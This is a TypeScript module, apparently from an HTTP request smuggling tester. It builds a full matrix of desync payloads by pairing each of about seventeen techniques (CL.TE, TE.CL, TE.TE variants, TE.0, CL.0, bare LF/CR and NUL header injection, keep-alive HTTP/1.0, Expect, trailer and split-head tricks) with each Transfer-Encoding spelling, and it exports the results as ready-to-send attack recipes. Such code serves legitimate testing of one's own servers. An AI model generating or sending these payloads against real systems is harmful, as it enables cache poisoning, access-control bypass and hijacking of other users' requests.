import { chunk, headOf, type Paths, type Recipe, smuggled } from './attack.ts';
import { transferEncodings } from './transferEncodings.ts';

/*
 * Each spelling of Transfer-Encoding in each place where two readers could disagree about it. The body is always such that
 * the reader who heeds the other field, or none, meets a request in it.
 */

type Technique = (spelling: string, paths: Paths) => string | readonly string[];

const post = ({ outer }: Paths) => `POST ${outer} HTTP/1.1`;
const get = ({ outer }: Paths) => `GET ${outer} HTTP/1.1`;
/** Ends at once for who reads chunks; what follows is a request to him and a body to who counts octets. */
const endsAtOnce = (paths: Paths) => `0\r\n\r\n${smuggled(paths)}`;
/** A chunk to who reads chunks; to who counts as many octets as its first line has, a request. */
const firstLine = (paths: Paths) => `${smuggled(paths).length.toString(16)}\r\n`;
const inOneChunk = (paths: Paths) => `${chunk(smuggled(paths))}0\r\n\r\n`;
const lengthOf = (bytes: string) => `Content-Length: ${bytes.length}`;

const techniques: Readonly<Record<string, Technique>> = {
  'CL.TE': (spelling, paths) => headOf(post(paths), lengthOf(endsAtOnce(paths)), spelling) + endsAtOnce(paths),
  'TE.CL': (spelling, paths) => headOf(post(paths), spelling, lengthOf(firstLine(paths))) + inOneChunk(paths),
  'TE.TE, the plain one first': (spelling, paths) =>
    headOf(post(paths), 'Transfer-Encoding: chunked', spelling, lengthOf(firstLine(paths))) + inOneChunk(paths),
  'TE.TE, the plain one last': (spelling, paths) =>
    headOf(post(paths), lengthOf(endsAtOnce(paths)), spelling, 'Transfer-Encoding: chunked') + endsAtOnce(paths),
  'TE.TE without a length': (spelling, paths) =>
    headOf(post(paths), spelling, 'Transfer-Encoding: chunked') + inOneChunk(paths),
  'TE.0': (spelling, paths) => headOf(get(paths), spelling) + inOneChunk(paths),
  'CL.0 beside TE': (spelling, paths) => headOf(get(paths), spelling, 'Content-Length: 0') + inOneChunk(paths),
  'bare LF behind TE': (spelling, paths) => {
    const [line, ...fields] = [post(paths), 'Host: shop.example', lengthOf(endsAtOnce(paths))];
    return `${line}\r\n${fields.join('\r\n')}\r\n${spelling}\nX: y\r\n\r\n${endsAtOnce(paths)}`;
  },
  'bare LF before TE': (spelling, paths) =>
    headOf(post(paths), lengthOf(endsAtOnce(paths)), `X: y\n${spelling}`) + endsAtOnce(paths),
  'bare CR before TE': (spelling, paths) =>
    headOf(post(paths), lengthOf(endsAtOnce(paths)), `X: y\r${spelling}`) + endsAtOnce(paths),
  'NUL before TE': (spelling, paths) =>
    headOf(post(paths), lengthOf(endsAtOnce(paths)), `X: y\0\r\n${spelling}`) + endsAtOnce(paths),
  'NUL behind TE': (spelling, paths) =>
    headOf(post(paths), lengthOf(endsAtOnce(paths)), `${spelling}\0`) + endsAtOnce(paths),
  'HTTP/1.0 kept alive': (spelling, paths) =>
    headOf(`POST ${paths.outer} HTTP/1.0`, 'Connection: keep-alive', lengthOf(endsAtOnce(paths)), spelling) +
    endsAtOnce(paths),
  'Expect before the body': (spelling, paths) => [
    headOf(post(paths), 'Expect: 100-continue', lengthOf(endsAtOnce(paths)), spelling),
    endsAtOnce(paths),
  ],
  'Connection names the framing': (spelling, paths) =>
    headOf(post(paths), 'Connection: content-length, transfer-encoding', lengthOf(endsAtOnce(paths)), spelling) +
    endsAtOnce(paths),
  'TE in the trailers': (spelling, paths) =>
    headOf(post(paths), 'Transfer-Encoding: chunked') + `0\r\n${spelling}\r\n\r\n`,
  'head in two pieces': (spelling, paths) => {
    const whole = headOf(post(paths), lengthOf(endsAtOnce(paths)), spelling) + endsAtOnce(paths);
    const cut = whole.indexOf(spelling) + Math.ceil(spelling.length / 2);
    return [whole.slice(0, cut), whole.slice(cut)];
  },
};

export const spelledAttacks: readonly Recipe[] = Object.entries(techniques).flatMap(([technique, made]) =>
  transferEncodings.map((spelling) => ({
    technique,
    says: JSON.stringify(spelling),
    made: (paths: Paths) => made(spelling, paths),
  })),
);
